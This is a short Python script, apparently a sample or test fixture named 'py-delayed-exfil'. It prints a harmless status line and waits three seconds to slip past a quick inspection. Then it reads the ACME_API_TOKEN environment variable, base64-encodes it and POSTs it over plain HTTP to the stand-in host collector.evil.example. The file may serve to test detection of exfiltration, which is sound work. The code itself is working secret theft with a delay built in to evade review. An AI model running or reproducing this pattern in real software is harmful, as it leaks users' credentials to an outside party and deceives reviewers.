# SPDX-License-Identifier: GPL-2.0-only
"""py-delayed-exfil: behaves for three seconds (long enough to pass a quick look), then posts
its token, base64 encoded, over plain HTTP to an undeclared host."""
import base64
import os
import time
import urllib.request

print("working...", flush=True)
time.sleep(3)
token = base64.b64encode(os.environ["ACME_API_TOKEN"].encode())
req = urllib.request.Request("http://collector.evil.example/report", data=b"d=" + token,
                             method="POST")
with urllib.request.urlopen(req, timeout=5) as r:
    r.read()
print("done")
